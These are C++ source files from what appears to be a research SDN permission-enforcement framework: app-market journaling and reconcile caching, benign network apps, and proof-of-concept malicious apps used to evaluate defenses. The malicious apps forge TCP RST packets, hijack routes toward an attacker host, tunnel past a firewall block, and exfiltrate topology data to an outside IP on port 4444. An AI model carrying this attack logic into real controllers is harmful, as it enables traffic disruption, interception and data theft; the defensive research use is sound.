        market->instances_[record.app] = std::move(app);
        break;
      }
      case JournalOp::kRevokeCommit: {
        runtime.quarantineApp(record.app, "replayed revoke: " + record.detail);
        market->entries_.at(record.app).state = AppState::kRevoked;
        break;
      }
      case JournalOp::kUninstallCommit: {
        runtime.unloadApp(record.app);
        market->entries_.erase(record.app);
        market->instances_.erase(record.app);
        break;
      }
      case JournalOp::kPolicyIntent:
        pendingPolicyText = record.manifestText;
        pendingGrants.clear();
        break;
      case JournalOp::kPolicyGrant:
        pendingGrants[record.app] = parseGrantLine(record.grantedText);
        break;
      case JournalOp::kPolicyCommit: {
        std::vector<std::pair<of::AppId, perm::PermissionSet>> grants;
        for (auto& [id, granted] : pendingGrants) {
          auto it = market->entries_.find(id);
          if (it == market->entries_.end()) continue;
          it->second.granted = granted;
          grants.emplace_back(id, std::move(granted));
        }
        if (!grants.empty()) runtime.engine().installAll(grants);
        market->policy_ = lang::parsePolicy(pendingPolicyText);
        pendingGrants.clear();
        break;
      }
      case JournalOp::kInstallIntent:
      case JournalOp::kUpgradeIntent:
      case JournalOp::kRevokeIntent:
      case JournalOp::kUninstallIntent:
      case JournalOp::kAbort:
        break;
    }
  }
  metrics().apps.add(static_cast<std::int64_t>(market->entries_.size()));
  return market;
}

}  // namespace sdnshield::market
