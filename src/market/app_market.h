// The app-market lifecycle subsystem (paper §III applied live): an
// AppMarket owns the install pipeline — parse the shipped manifest,
// reconcile it against the administrator's policy, grant, spawn the
// container — and keeps every installed app *re-reconcilable*:
//
//  * installApp / upgradeApp / revokeApp / uninstallApp mutate one app at a
//    time, each as a journaled transaction (intent -> commit, abort on any
//    failure) with nothing partially applied on the live runtime;
//  * updatePolicy re-reconciles EVERY installed app against the new policy
//    and publishes all new grants in ONE atomic permission epoch
//    (engine::PermissionEngine::installAll): concurrent checks observe
//    either every old grant or every new grant, never a mixture;
//  * the write-ahead journal (market/journal.h) makes the whole lifecycle
//    replayable — AppMarket::recover() drives a fresh runtime back to the
//    exact pre-crash app/permission state.
//
// Deputy-thread safety: updatePolicy and revokeApp (the MarketControl
// surface reachable from apps holding market_admin) never join app
// container threads — revocation seals via quarantine; the policy swap only
// touches the engine and the journal. upgradeApp/uninstallApp DO join (full
// container stop) and are host-level calls only.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "controller/api.h"
#include "core/lang/policy_ast.h"
#include "core/reconcile/reconciler.h"
#include "isolation/api_proxy.h"
#include "isolation/ksd.h"
#include "market/journal.h"
#include "market/reconcile_cache.h"

namespace sdnshield::market {

/// Where an installed app is in its lifecycle.
enum class AppState {
  kRunning,
  kRevoked,  ///< Quarantined by revokeApp; entry kept for the audit trail.
};

const char* toString(AppState state);

/// The market's view of one installed app.
struct AppEntry {
  of::AppId id = 0;
  std::string name;
  std::uint32_t version = 1;
  lang::PermissionManifest manifest;  ///< As requested (pre-reconciliation).
  perm::PermissionSet granted;        ///< As granted (post-reconciliation).
  AppState state = AppState::kRunning;
  /// FNV-1a of the raw manifest text, half of the incremental-reconcile
  /// cache key (DESIGN.md §14); updated on install/upgrade/recover.
  std::uint64_t manifestHash = 0;
};

/// Recreates an app instance from its market identity (journal replay).
using AppFactory = std::function<std::shared_ptr<ctrl::App>(
    const std::string& name, std::uint32_t version)>;

class AppMarket final : public ctrl::MarketControl {
 public:
  /// Attaches itself to the runtime's controller as the MarketControl; the
  /// destructor detaches. @p journal defaults to a fresh MemoryJournal.
  AppMarket(iso::ShieldRuntime& runtime, lang::PolicyProgram policy,
            std::shared_ptr<MarketJournal> journal = nullptr);
  ~AppMarket() override;

  AppMarket(const AppMarket&) = delete;
  AppMarket& operator=(const AppMarket&) = delete;

  // --- lifecycle (host-level) ----------------------------------------------
  /// Full install pipeline: parse the app's shipped manifest, reconcile it
  /// against the current policy, grant, spawn the container. Journaled;
  /// any failure (parse, reconcile, injected fault) leaves no partial
  /// grants, containers or subscriptions.
  ctrl::ApiResponse<of::AppId> installApp(std::shared_ptr<ctrl::App> app,
                                          std::uint32_t version = 1);

  /// Live upgrade to a new release: the new manifest is reconciled, the
  /// permission diff audited, and the grant replaced atomically together
  /// with the container swap (the app id is preserved). Joins the old
  /// container — host-level call only.
  ctrl::ApiResult upgradeApp(of::AppId id, std::shared_ptr<ctrl::App> next,
                             std::uint32_t version);

  /// Removes an app entirely: permissions uninstalled, subscriptions and
  /// async-window slot released, container stopped (join — host-level call
  /// only), entry erased.
  ctrl::ApiResult uninstallApp(of::AppId id);

  // --- MarketControl (deputy-safe) -----------------------------------------
  ctrl::ApiResult updatePolicy(const std::string& policyText) override;
  ctrl::ApiResult revokeApp(of::AppId app, const std::string& reason) override;
  std::string report() const override;
  std::string digest() const override;

  // --- introspection -------------------------------------------------------
  std::optional<AppEntry> entry(of::AppId id) const;
  std::size_t installedCount() const;
  lang::PolicyProgram policy() const;
  const std::shared_ptr<MarketJournal>& journal() const { return journal_; }

  // --- incremental / parallel reconcile knobs (DESIGN.md §14) --------------
  /// Counters of the per-market reconcile memo consulted by updatePolicy.
  ReconcileCache::Stats reconcileCacheStats() const;
  /// Disabled, every policy push re-reconciles every unit (the PR 5
  /// behaviour); for before/after comparisons and differential tests.
  void setReconcileCacheEnabled(bool enabled);
  void clearReconcileCache();
  /// Disabled, updatePolicy reconciles its units serially on the calling
  /// thread instead of fanning them across the reconcile deputy pool.
  /// Virtualized (mck) runs are always serial regardless of this knob.
  void setParallelReconcile(bool enabled);
  bool parallelReconcile() const;

  /// Rebuilds a market (and its apps, on @p runtime) from a journal by
  /// replaying the committed records in order: installs are re-loaded under
  /// their original ids (ShieldRuntime::loadAppAs), upgrades re-swapped,
  /// revocations re-quarantined, uninstalls re-removed and policy epochs
  /// re-published. @p initialPolicy is the policy the market booted with;
  /// replayed policy commits replace it. Throws on an unreplayable journal
  /// (unknown app id, unparsable stored text).
  static std::unique_ptr<AppMarket> recover(
      iso::ShieldRuntime& runtime, lang::PolicyProgram initialPolicy,
      const AppFactory& factory, std::shared_ptr<MarketJournal> journal);

 private:
  /// Reconciles @p manifest against the given policy with every *other*
  /// running app's current grant visible to APP references.
  reconcile::ReconcileResult reconcileLocked(
      const lang::PolicyProgram& policy,
      const lang::PermissionManifest& manifest,
      of::AppId excludeApp) const;

  /// Best-effort abort record (swallows journal faults: the abort record is
  /// diagnostic; the rollback itself already happened).
  void journalAbort(of::AppId app, const std::string& what);

  std::string digestLocked() const;

  /// One reconcile unit of a policy push: the apps whose (manifest,
  /// observed-context) identity coincides, reconciled once for all members.
  struct ReconcileUnit {
    ReconcileKey key;
    const AppEntry* representative = nullptr;
    std::vector<of::AppId> members;
  };

  /// Groups the running apps of entries_ into reconcile units under
  /// @p policyHash / @p refs, firing the kMarketReconcile fault site once
  /// per app (the same per-app firing count as the PR 5 serial loop).
  std::vector<ReconcileUnit> groupReconcileUnitsLocked(
      std::uint64_t policyHash, const std::vector<std::string>& refs) const;

  /// The referenced-apps grant map one unit's reconcile observes — exactly
  /// what reconcileLocked's full otherApps map would surface to the
  /// representative, restricted to the names the policy can actually read.
  std::map<std::string, perm::PermissionSet> unitContextLocked(
      const AppEntry& representative,
      const std::vector<std::string>& refs) const;

  /// The market-owned deputy pool for reconcile fan-out, created and
  /// started on first use; nullptr when parallelism is off or a virtual
  /// executor owns the process (mck — serial keeps exploration
  /// deterministic).
  iso::KsdPool* reconcilePoolLocked();

  iso::ShieldRuntime& runtime_;
  std::shared_ptr<MarketJournal> journal_;
  mutable std::mutex mutex_;  ///< Serializes lifecycle ops + entry table.
  lang::PolicyProgram policy_;
  std::map<of::AppId, AppEntry> entries_;
  /// Kept so upgradeApp can roll back to the previous instance when the
  /// commit record fails to append.
  std::map<of::AppId, std::shared_ptr<ctrl::App>> instances_;
  /// Incremental-reconcile memo + its fan-out pool (both guarded by
  /// mutex_; the pool's deputies only touch per-unit local state).
  ReconcileCache reconcileCache_;
  std::unique_ptr<iso::KsdPool> reconcilePool_;
  bool parallelReconcile_ = true;
};

/// Token-level permission diff as one human-readable line ("+insert_flow
/// -host_network ~read_statistics"; "unchanged" when equivalent). ~ marks
/// tokens whose filter narrowed/widened.
std::string describePermissionDiff(const perm::PermissionSet& before,
                                   const perm::PermissionSet& after);

}  // namespace sdnshield::market
