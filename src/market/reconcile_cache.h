// Incremental reconciliation for market-scale policy churn (DESIGN.md §14).
//
// A reconcile result is a pure function of (policy, manifest, the grants of
// the apps the policy references via `APP name`): the reconciler reads
// nothing else. The market exploits that by grouping its installed apps
// into *units* sharing one ReconcileKey — a policy push over 10k apps that
// ship M distinct manifests reconciles M units, not 10k apps — and by
// memoizing unit results across pushes, so an operator alternating between
// two policies (or re-pushing an unchanged one) pays hashed lookups only.
//
// Soundness of the key: policyHash covers the policy text, manifestHash the
// raw manifest text (which includes the `APP <name>` header feeding the
// reconciler's self-reference rule), and contextHash folds in, for every
// app name the policy references, the referenced app's current grant line
// as this app would observe it. Any input that could change the reconcile
// output changes the key, so entries never go stale — a changed manifest,
// policy, or referenced grant simply misses.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "core/lang/policy_ast.h"
#include "core/perm/permission.h"

namespace sdnshield::market {

/// FNV-1a over @p text — the repo's convention for deterministic digests
/// (campaign plan digests use the same construction).
std::uint64_t fnv1aHash(std::string_view text);

/// Order-sensitive 64-bit mix of @p next into @p seed.
std::uint64_t hashMix(std::uint64_t seed, std::uint64_t next);

/// Every app name the policy references via `APP name`, sorted and
/// deduplicated. These are the only foreign inputs a reconcile can read, so
/// they are exactly what the cache key's context must cover.
std::vector<std::string> collectAppRefs(const lang::PolicyProgram& policy);

/// Identity of one reconcile unit. Exact-match key (all three hashes);
/// FNV-1a collisions are the accepted residual risk, the same trade the
/// journal digests make.
struct ReconcileKey {
  std::uint64_t policyHash = 0;    ///< Raw policy text.
  std::uint64_t manifestHash = 0;  ///< Raw manifest text (incl. APP header).
  std::uint64_t contextHash = 0;   ///< Referenced apps' grants, as observed.

  bool operator==(const ReconcileKey&) const = default;
};

struct ReconcileKeyHash {
  std::size_t operator()(const ReconcileKey& key) const {
    return static_cast<std::size_t>(
        hashMix(hashMix(key.policyHash, key.manifestHash), key.contextHash));
  }
};

/// Bounded memo of reconcile results, owned per AppMarket. Not internally
/// synchronized: the market calls it under its lifecycle mutex.
class ReconcileCache {
 public:
  /// Wholesale-flush bound; far above any real market's distinct
  /// (policy, manifest, context) population between policy pushes.
  static constexpr std::size_t kMaxEntries = 65536;

  /// The memoized granted set, or nullopt on miss.
  std::optional<perm::PermissionSet> lookup(const ReconcileKey& key);

  void insert(const ReconcileKey& key, perm::PermissionSet granted);

  struct Stats {
    std::uint64_t hits = 0;
    std::uint64_t misses = 0;
    std::size_t entries = 0;
  };
  Stats stats() const { return Stats{hits_, misses_, entries_.size()}; }

  void clear() { entries_.clear(); }

  /// Disabled, lookup always misses and insert is a no-op — the PR 5
  /// reconcile-every-app behaviour, for before/after comparisons.
  void setEnabled(bool enabled);
  bool enabled() const { return enabled_; }

 private:
  std::unordered_map<ReconcileKey, perm::PermissionSet, ReconcileKeyHash>
      entries_;
  bool enabled_ = true;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
};

}  // namespace sdnshield::market
