#include "apps/l2_learning.h"

namespace sdnshield::apps {

std::string L2LearningSwitch::requestedManifest() const {
  return "APP l2_learning\n"
         "PERM pkt_in_event\n"
         "PERM send_pkt_out LIMITING FROM_PKT_IN\n"
         "PERM insert_flow LIMITING ACTION FORWARD\n";
}

void L2LearningSwitch::init(ctrl::AppContext& context) {
  context_ = &context;
  context.subscribePacketIn(
      [this](const ctrl::PacketInEvent& event) { onPacketIn(event); });
}

void L2LearningSwitch::onPacketIn(const ctrl::PacketInEvent& event) {
  const of::PacketIn& packetIn = event.packetIn;
  of::MacAddress src = packetIn.packet.eth.src;
  of::MacAddress dst = packetIn.packet.eth.dst;

  std::optional<of::PortNo> outPort;
  {
    std::lock_guard lock(mutex_);
    ++packetsSeen_;
    learned_[packetIn.dpid][src] = packetIn.inPort;
    auto& table = learned_[packetIn.dpid];
    auto it = table.find(dst);
    if (it != table.end()) outPort = it->second;
  }

  if (outPort && !dst.isBroadcast() && !dst.isMulticast()) {
    // Install the forward rule for this destination, then release the
    // buffered packet along it.
    of::FlowMod mod;
    mod.command = of::FlowModCommand::kAdd;
    mod.match.ethDst = dst;
    mod.priority = priority_;
    mod.idleTimeout = 300;
    mod.actions.push_back(of::OutputAction{*outPort});
    of::PacketOut out;
    out.dpid = packetIn.dpid;
    out.inPort = packetIn.inPort;
    out.packet = packetIn.packet;
    out.fromPacketIn = true;
    out.actions.push_back(of::OutputAction{*outPort});
    if (pipelineWindow_ > 0) {
      track(context_->api().insertFlowAsync(packetIn.dpid, mod),
            /*countsRule=*/true);
      track(context_->api().sendPacketOutAsync(out), /*countsRule=*/false);
    } else {
      if (context_->api().insertFlow(packetIn.dpid, mod).ok()) {
        std::lock_guard lock(mutex_);
        ++rulesInstalled_;
      }
      context_->api().sendPacketOut(out);
    }
    return;
  }

  // Unknown destination (or broadcast): flood.
  of::PacketOut out;
  out.dpid = packetIn.dpid;
  out.inPort = packetIn.inPort;
  out.packet = packetIn.packet;
  out.fromPacketIn = true;
  out.actions.push_back(of::OutputAction{of::ports::kFlood});
  if (pipelineWindow_ > 0) {
    track(context_->api().sendPacketOutAsync(out), /*countsRule=*/false);
  } else {
    context_->api().sendPacketOut(out);
  }
}

void L2LearningSwitch::track(ctrl::ApiFuture<ctrl::ApiResult> future,
                             bool countsRule) {
  std::optional<Pending> oldest;
  {
    std::lock_guard lock(mutex_);
    pending_.push_back(Pending{std::move(future), countsRule});
    if (pending_.size() > pipelineWindow_) {
      oldest = std::move(pending_.front());
      pending_.pop_front();
    }
  }
  // get() may block on the deputy; never hold the mutex across it.
  if (oldest) reap(std::move(*oldest));
}

void L2LearningSwitch::reap(Pending pending) {
  if (!pending.future.valid()) return;
  ctrl::ApiResult result = pending.future.get();
  if (pending.countsRule && result.ok()) {
    std::lock_guard lock(mutex_);
    ++rulesInstalled_;
  }
}

void L2LearningSwitch::drainPending() {
  while (true) {
    Pending next;
    {
      std::lock_guard lock(mutex_);
      if (pending_.empty()) return;
      next = std::move(pending_.front());
      pending_.pop_front();
    }
    reap(std::move(next));
  }
}

std::uint64_t L2LearningSwitch::packetsSeen() const {
  std::lock_guard lock(mutex_);
  return packetsSeen_;
}

std::uint64_t L2LearningSwitch::rulesInstalled() const {
  std::lock_guard lock(mutex_);
  return rulesInstalled_;
}

}  // namespace sdnshield::apps
