// ALTO service app (second evaluation scenario, §IX-A): publishes real-time
// topology and routing-cost information onto the controller's data bus for
// upper-layer apps (the TE app) to consume.
#pragma once

#include <atomic>
#include <string>
#include <tuple>
#include <vector>

#include "controller/api.h"

namespace sdnshield::apps {

inline constexpr const char* kAltoCostMapTopic = "alto.costmap";

class AltoService final : public ctrl::App {
 public:
  std::string name() const override { return "alto"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  /// Recomputes the host-pair hop-cost map from the current topology and
  /// publishes it. Returns false when a permission denial blocked it.
  bool publishUpdate();

  std::uint64_t updatesPublished() const { return published_.load(); }

 private:
  ctrl::AppContext* context_ = nullptr;
  std::atomic<std::uint64_t> published_{0};
};

/// Cost-map wire format helpers (topic payload is "srcIp,dstIp,hops;...").
std::string encodeCostMap(
    const std::vector<std::tuple<of::Ipv4Address, of::Ipv4Address, int>>& map);
std::vector<std::tuple<of::Ipv4Address, of::Ipv4Address, int>> decodeCostMap(
    const std::string& payload);

}  // namespace sdnshield::apps
