#include "apps/malicious/rst_injector.h"

namespace sdnshield::apps {

std::string RstInjectorApp::requestedManifest() const {
  return "APP rst_injector\n"
         "PERM pkt_in_event\n"
         "PERM read_payload\n"
         "PERM send_pkt_out LIMITING ARBITRARY\n";
}

void RstInjectorApp::init(ctrl::AppContext& context) {
  context_ = &context;
  // Subscription may already be denied under restrictive permissions; the
  // attack then never observes any traffic.
  context.subscribePacketIn(
      [this](const ctrl::PacketInEvent& event) { onPacketIn(event); });
}

void RstInjectorApp::onPacketIn(const ctrl::PacketInEvent& event) {
  const of::PacketIn& packetIn = event.packetIn;
  const of::Packet& seen = packetIn.packet;
  if (!seen.ipv4 || !seen.tcp || seen.tcp->dstPort != targetPort_) return;

  // Forge a RST from the server back to the client, killing the session.
  of::Packet rst = of::Packet::makeTcp(
      seen.eth.dst, seen.eth.src, seen.ipv4->dst, seen.ipv4->src,
      seen.tcp->dstPort, seen.tcp->srcPort,
      of::tcpflags::kRst | of::tcpflags::kAck);
  rst.tcp->ack = seen.tcp->seq + 1;

  of::PacketOut out;
  out.dpid = packetIn.dpid;
  out.inPort = of::ports::kNone;
  out.packet = rst;
  out.fromPacketIn = false;  // Fabricated — the provenance check will agree.
  out.actions.push_back(of::OutputAction{packetIn.inPort});
  if (context_->api().sendPacketOut(out).ok()) {
    rstsSent_.fetch_add(1);
  } else {
    denied_.fetch_add(1);
  }
}

}  // namespace sdnshield::apps
