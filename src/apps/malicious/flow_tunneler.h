// PoC attack app #4 (paper §IX-B.1, Class 4 — attacking other apps):
// dynamic-flow tunneling. Establishes a header-rewriting tunnel around a
// firewall that blocks a TCP port: the ingress switch rewrites the blocked
// destination port to an allowed one, the egress switch rewrites it back.
#pragma once

#include <atomic>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class FlowTunnelerApp final : public ctrl::App {
 public:
  FlowTunnelerApp(std::uint16_t blockedPort, std::uint16_t coverPort,
                  std::uint16_t rulePriority = 120)
      : blockedPort_(blockedPort),
        coverPort_(coverPort),
        priority_(rulePriority) {}

  std::string name() const override { return "flow_tunneler"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  /// Builds the tunnel for traffic to @p dstIp: rewrite at the source edge,
  /// restore at the destination edge. Returns true when both ends installed.
  bool establishTunnel(of::Ipv4Address srcIp, of::Ipv4Address dstIp);

  std::uint64_t rulesInstalled() const { return installed_.load(); }
  std::uint64_t rulesDenied() const { return denied_.load(); }

 private:
  std::uint16_t blockedPort_;
  std::uint16_t coverPort_;
  std::uint16_t priority_;
  ctrl::AppContext* context_ = nullptr;
  std::atomic<std::uint64_t> installed_{0};
  std::atomic<std::uint64_t> denied_{0};
};

}  // namespace sdnshield::apps
