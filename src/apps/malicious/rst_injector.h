// PoC attack app #1 (paper §IX-B.1, Class 1 — intrusion to data plane):
// monitors packet-ins for active HTTP sessions and injects TCP RST segments
// to tear them down.
#pragma once

#include <atomic>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class RstInjectorApp final : public ctrl::App {
 public:
  explicit RstInjectorApp(std::uint16_t targetPort = 80)
      : targetPort_(targetPort) {}

  std::string name() const override { return "rst_injector"; }

  /// What the attacker *requests* — over-privileged on purpose.
  std::string requestedManifest() const override;

  void init(ctrl::AppContext& context) override;

  std::uint64_t rstsSent() const { return rstsSent_.load(); }
  std::uint64_t sendsDenied() const { return denied_.load(); }

 private:
  void onPacketIn(const ctrl::PacketInEvent& event);

  ctrl::AppContext* context_ = nullptr;
  std::uint16_t targetPort_;
  std::atomic<std::uint64_t> rstsSent_{0};
  std::atomic<std::uint64_t> denied_{0};
};

}  // namespace sdnshield::apps
