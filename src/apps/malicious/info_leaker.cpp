#include "apps/malicious/info_leaker.h"

#include <sstream>

namespace sdnshield::apps {

std::string InfoLeakerApp::requestedManifest() const {
  return "APP info_leaker\n"
         "PERM visible_topology\n"
         "PERM read_statistics\n"
         "PERM network_access\n";
}

void InfoLeakerApp::init(ctrl::AppContext& context) { context_ = &context; }

bool InfoLeakerApp::leak() {
  std::ostringstream stolen;
  auto topologyResponse = context_->api().readTopology();
  if (topologyResponse.ok()) {
    stolen << "topology " << topologyResponse.value().toString() << "; links:";
    for (const net::Link& link : topologyResponse.value().links()) {
      stolen << " " << link.toString();
    }
    stolen << "; hosts:";
    for (const net::Host& host : topologyResponse.value().hosts()) {
      stolen << " " << host.ip.toString() << "@" << host.dpid;
    }
    for (of::DatapathId dpid : topologyResponse.value().switches()) {
      of::StatsRequest request;
      request.level = of::StatsLevel::kPort;
      request.dpid = dpid;
      auto statsResponse = context_->api().readStatistics(request);
      if (statsResponse.ok()) {
        stolen << "; s" << dpid << " ports=" << statsResponse.value().ports.size();
      }
    }
  } else {
    stolen << "no topology access";
  }
  // "HTTP POST" to the attacker-controlled collector.
  bool delivered = context_->host().netSend(
      exfilIp_, exfilPort_, "POST /exfil " + stolen.str());
  if (delivered) {
    succeeded_.fetch_add(1);
  } else {
    blocked_.fetch_add(1);
  }
  return delivered;
}

}  // namespace sdnshield::apps
