#include "apps/malicious/flow_tunneler.h"

namespace sdnshield::apps {

std::string FlowTunnelerApp::requestedManifest() const {
  return "APP flow_tunneler\n"
         "PERM visible_topology\n"
         "PERM insert_flow\n";
}

void FlowTunnelerApp::init(ctrl::AppContext& context) { context_ = &context; }

bool FlowTunnelerApp::establishTunnel(of::Ipv4Address srcIp,
                                      of::Ipv4Address dstIp) {
  auto topologyResponse = context_->api().readTopology();
  if (!topologyResponse.ok()) return false;
  const net::Topology& topology = topologyResponse.value();
  auto src = topology.hostByIp(srcIp);
  auto dst = topology.hostByIp(dstIp);
  if (!src || !dst || src->dpid == dst->dpid) return false;
  auto towardDst = topology.nextHopPort(src->dpid, dst->dpid);
  if (!towardDst) return false;

  // Tunnel entry: rewrite the blocked destination port to the cover port
  // before the packet reaches the firewall's chokepoint.
  of::FlowMod entry;
  entry.command = of::FlowModCommand::kAdd;
  entry.match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
  entry.match.ipProto = static_cast<std::uint8_t>(of::IpProto::kTcp);
  entry.match.ipDst = of::MaskedIpv4{dstIp};
  entry.match.tpDst = blockedPort_;
  entry.priority = priority_;
  of::SetFieldAction rewriteToCover;
  rewriteToCover.field = of::MatchField::kTpDst;
  rewriteToCover.intValue = coverPort_;
  entry.actions.push_back(rewriteToCover);
  entry.actions.push_back(of::OutputAction{*towardDst});

  // Tunnel exit: restore the original port at the destination edge.
  of::FlowMod exit;
  exit.command = of::FlowModCommand::kAdd;
  exit.match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
  exit.match.ipProto = static_cast<std::uint8_t>(of::IpProto::kTcp);
  exit.match.ipDst = of::MaskedIpv4{dstIp};
  exit.match.tpDst = coverPort_;
  exit.priority = priority_;
  of::SetFieldAction restorePort;
  restorePort.field = of::MatchField::kTpDst;
  restorePort.intValue = blockedPort_;
  exit.actions.push_back(restorePort);
  exit.actions.push_back(of::OutputAction{dst->port});

  bool entryOk = context_->api().insertFlow(src->dpid, entry).ok();
  bool exitOk = context_->api().insertFlow(dst->dpid, exit).ok();
  installed_.fetch_add((entryOk ? 1u : 0u) + (exitOk ? 1u : 0u));
  denied_.fetch_add((entryOk ? 0u : 1u) + (exitOk ? 0u : 1u));
  return entryOk && exitOk;
}

}  // namespace sdnshield::apps
