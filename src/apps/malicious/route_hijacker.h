// PoC attack app #3 (paper §IX-B.1, Class 3 — manipulation of rules):
// rewrites existing routes between two hosts so their traffic traverses a
// third, attacker-controlled host (man in the middle).
#pragma once

#include <atomic>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class RouteHijackerApp final : public ctrl::App {
 public:
  RouteHijackerApp(of::Ipv4Address victimDstIp, of::Ipv4Address attackerHostIp,
                   std::uint16_t rulePriority = 50)
      : victimDstIp_(victimDstIp),
        attackerHostIp_(attackerHostIp),
        priority_(rulePriority) {}

  std::string name() const override { return "route_hijacker"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  /// Installs the hijack: traffic destined to the victim is steered to the
  /// attacker's host instead. Returns true when the rules went in.
  bool hijack();

  std::uint64_t rulesInstalled() const { return installed_.load(); }
  std::uint64_t rulesDenied() const { return denied_.load(); }

 private:
  of::Ipv4Address victimDstIp_;
  of::Ipv4Address attackerHostIp_;
  std::uint16_t priority_;
  ctrl::AppContext* context_ = nullptr;
  std::atomic<std::uint64_t> installed_{0};
  std::atomic<std::uint64_t> denied_{0};
};

}  // namespace sdnshield::apps
