#include "apps/malicious/route_hijacker.h"

#include "controller/services.h"

namespace sdnshield::apps {

std::string RouteHijackerApp::requestedManifest() const {
  return "APP route_hijacker\n"
         "PERM visible_topology\n"
         "PERM insert_flow\n"
         "PERM delete_flow\n";
}

void RouteHijackerApp::init(ctrl::AppContext& context) { context_ = &context; }

bool RouteHijackerApp::hijack() {
  auto topologyResponse = context_->api().readTopology();
  if (!topologyResponse.ok()) return false;
  const net::Topology& topology = topologyResponse.value();
  auto victim = topology.hostByIp(victimDstIp_);
  auto attacker = topology.hostByIp(attackerHostIp_);
  if (!victim || !attacker) return false;

  // Steer "traffic to the victim" toward the attacker's host: install
  // higher-priority destination rules on every switch, overriding the
  // routing app's legitimate paths.
  of::FlowMatch match;
  match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
  match.ipDst = of::MaskedIpv4{victimDstIp_};
  bool any = false;
  for (of::DatapathId dpid : topology.switches()) {
    of::FlowMod mod;
    mod.command = of::FlowModCommand::kAdd;
    mod.match = match;
    mod.priority = priority_;
    if (dpid == attacker->dpid) {
      mod.actions.push_back(of::OutputAction{attacker->port});
    } else {
      auto port = topology.nextHopPort(dpid, attacker->dpid);
      if (!port) continue;
      mod.actions.push_back(of::OutputAction{*port});
    }
    if (context_->api().insertFlow(dpid, mod).ok()) {
      installed_.fetch_add(1);
      any = true;
    } else {
      denied_.fetch_add(1);
    }
  }
  return any;
}

}  // namespace sdnshield::apps
