// PoC attack app #2 (paper §IX-B.1, Class 2 — leakage of sensitive
// information): collects topology and switch/port configuration and leaks it
// to an outside attacker over the controller host's network (HTTP POST in
// the paper).
#pragma once

#include <atomic>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class InfoLeakerApp final : public ctrl::App {
 public:
  explicit InfoLeakerApp(of::Ipv4Address exfilIp,
                         std::uint16_t exfilPort = 4444)
      : exfilIp_(exfilIp), exfilPort_(exfilPort) {}

  std::string name() const override { return "info_leaker"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  /// Performs one collection + exfiltration attempt. Returns true when the
  /// leak reached the attacker endpoint.
  bool leak();

  std::uint64_t leaksSucceeded() const { return succeeded_.load(); }
  std::uint64_t leaksBlocked() const { return blocked_.load(); }

 private:
  of::Ipv4Address exfilIp_;
  std::uint16_t exfilPort_;
  ctrl::AppContext* context_ = nullptr;
  std::atomic<std::uint64_t> succeeded_{0};
  std::atomic<std::uint64_t> blocked_{0};
};

}  // namespace sdnshield::apps
