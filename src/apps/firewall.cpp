#include "apps/firewall.h"

namespace sdnshield::apps {

std::string FirewallApp::requestedManifest() const {
  return "APP firewall\n"
         "PERM insert_flow LIMITING ACTION DROP AND MIN_PRIORITY 100\n"
         "PERM delete_flow LIMITING OWN_FLOWS\n"
         "PERM flow_event\n";
}

void FirewallApp::init(ctrl::AppContext& context) { context_ = &context; }

of::FlowMatch FirewallApp::blockMatch(std::uint16_t tcpPort) const {
  of::FlowMatch match;
  match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
  match.ipProto = static_cast<std::uint8_t>(of::IpProto::kTcp);
  match.tpDst = tcpPort;
  return match;
}

bool FirewallApp::blockTcpDstPort(of::DatapathId dpid, std::uint16_t tcpPort) {
  of::FlowMod mod;
  mod.command = of::FlowModCommand::kAdd;
  mod.match = blockMatch(tcpPort);
  mod.priority = priority_;
  mod.actions.push_back(of::DropAction{});
  bool ok = context_->api().insertFlow(dpid, mod).ok();
  if (ok) installed_.fetch_add(1);
  return ok;
}

bool FirewallApp::unblockTcpDstPort(of::DatapathId dpid,
                                    std::uint16_t tcpPort) {
  return context_->api()
      .deleteFlow(dpid, blockMatch(tcpPort), /*strict=*/true, priority_)
      .ok();
}

}  // namespace sdnshield::apps
