#include "apps/monitoring.h"

#include <sstream>

namespace sdnshield::apps {

std::string MonitoringApp::requestedManifest() const {
  return "APP monitoring\n"
         "PERM visible_topology LIMITING LocalTopo\n"
         "PERM read_statistics\n"
         "PERM network_access LIMITING AdminRange\n"
         "PERM insert_flow\n";
}

void MonitoringApp::init(ctrl::AppContext& context) { context_ = &context; }

bool MonitoringApp::collectAndReport() {
  auto topologyResponse = context_->api().readTopology();
  if (!topologyResponse.ok()) return false;

  std::ostringstream report;
  report << "topology: " << topologyResponse.value().toString() << "\n";
  for (of::DatapathId dpid : topologyResponse.value().switches()) {
    of::StatsRequest request;
    request.level = of::StatsLevel::kSwitch;
    request.dpid = dpid;
    auto statsResponse = context_->api().readStatistics(request);
    if (!statsResponse.ok()) continue;
    report << "s" << dpid << ": flows="
           << statsResponse.value().switchStats.activeFlows
           << " lookups=" << statsResponse.value().switchStats.lookupCount
           << "\n";
  }
  return context_->host().netSend(collectorIp_, collectorPort_, report.str());
}

}  // namespace sdnshield::apps
