#include "apps/traffic_engineering.h"

#include "apps/alto.h"
#include "controller/services.h"

namespace sdnshield::apps {

std::string TrafficEngineeringApp::requestedManifest() const {
  return "APP traffic_engineering\n"
         "PERM visible_topology\n"
         "PERM topology_event\n"  // Data-model event notification.
         "PERM insert_flow LIMITING ACTION FORWARD\n"
         "PERM delete_flow LIMITING OWN_FLOWS\n";
}

void TrafficEngineeringApp::init(ctrl::AppContext& context) {
  context_ = &context;
  context.subscribeData(kAltoCostMapTopic,
                        [this](const ctrl::DataUpdateEvent& event) {
                          onCostMap(event);
                        });
}

void TrafficEngineeringApp::onCostMap(const ctrl::DataUpdateEvent& event) {
  // processed_ is bumped at the end: observers treat it as "update fully
  // reacted to, rules installed" (the Figure-6b measurement point).
